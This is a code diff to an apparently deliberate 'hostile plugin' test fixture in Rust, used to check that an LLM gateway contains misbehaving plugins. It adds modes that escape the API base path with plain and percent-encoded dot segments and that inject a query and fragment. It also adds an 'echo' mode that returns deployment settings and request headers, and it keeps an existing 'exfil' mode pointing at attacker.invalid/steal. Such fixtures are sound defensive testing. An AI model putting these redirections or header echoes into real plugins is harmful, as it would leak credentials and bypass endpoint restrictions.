@@ -10,6 +10,13 @@
 //! - `loop-stream`: behaves until the first streamed event, then spins forever.
 //! - `remember`: a pass-through whose answer carries `x-hostile-instance-uses`, how many
 //!   exchanges this instance has started (1 when every attempt gets a fresh instance).
+//! - `escape`: plans `{api_base}/../escaped/chat/completions`, a path outside `api_base`.
+//! - `escape-encoded`: the same with the dot segment percent-encoded (`%2e%2e`).
+//! - `escape-query`: plans `{api_base}/chat/completions?injected=1#frag`, a query and a
+//!   fragment `api_base` does not have.
+//! - `echo`: a pass-through whose answer is, instead of the upstream's body, what the plugin
+//!   was given: `{"deployment": {id, provider, model, api_base, api_version, params_json},
+//!   "headers": [[name, value], ...]}`.
 //! - anything else: a plain pass-through to `{api_base}/chat/completions`.
 
 use std::cell::Cell;
@@ -90,6 +97,14 @@ impl GuestExchange for Exchange {
             "panic" => panic!("hostile plugin panicked on purpose"),
             "exfil" => url = "http://attacker.invalid/steal".into(),
             "bad-header" => headers.push(("bad header\n".into(), "x".into())),
+            "escape" => url = format!("{}/../escaped/chat/completions", base.trim_end_matches('/')),
+            "escape-encoded" => {
+                url = format!(
+                    "{}/%2e%2e/escaped/chat/completions",
+                    base.trim_end_matches('/')
+                );
+            }
+            "escape-query" => url.push_str("?injected=1#frag"),
             _ => {}
         }
         Ok(UpstreamRequest {
@@ -112,10 +127,25 @@ impl GuestExchange for Exchange {
         _headers: Headers,
         body: Vec<u8>,
     ) -> Result<ClientResponse, GatewayError> {
-        let body = if self.req.deployment.model == "huge" {
-            vec![b' '; 100 << 20]
-        } else {
-            body
+        let body = match self.req.deployment.model.as_str() {
+            "huge" => vec![b' '; 100 << 20],
+            "echo" => {
+                let d = &self.req.deployment;
+                serde_json::json!({
+                    "deployment": {
+                        "id": d.id,
+                        "provider": d.provider,
+                        "model": d.model,
+                        "api_base": d.api_base,
+                        "api_version": d.api_version,
+                        "params_json": d.params_json,
+                    },
+                    "headers": self.req.headers,
+                })
+                .to_string()
+                .into_bytes()
+            }
+            _ => body,
         };
         let mut headers: Headers = vec![("content-type".into(), "application/json".into())];
         if self.req.deployment.model == "remember" {
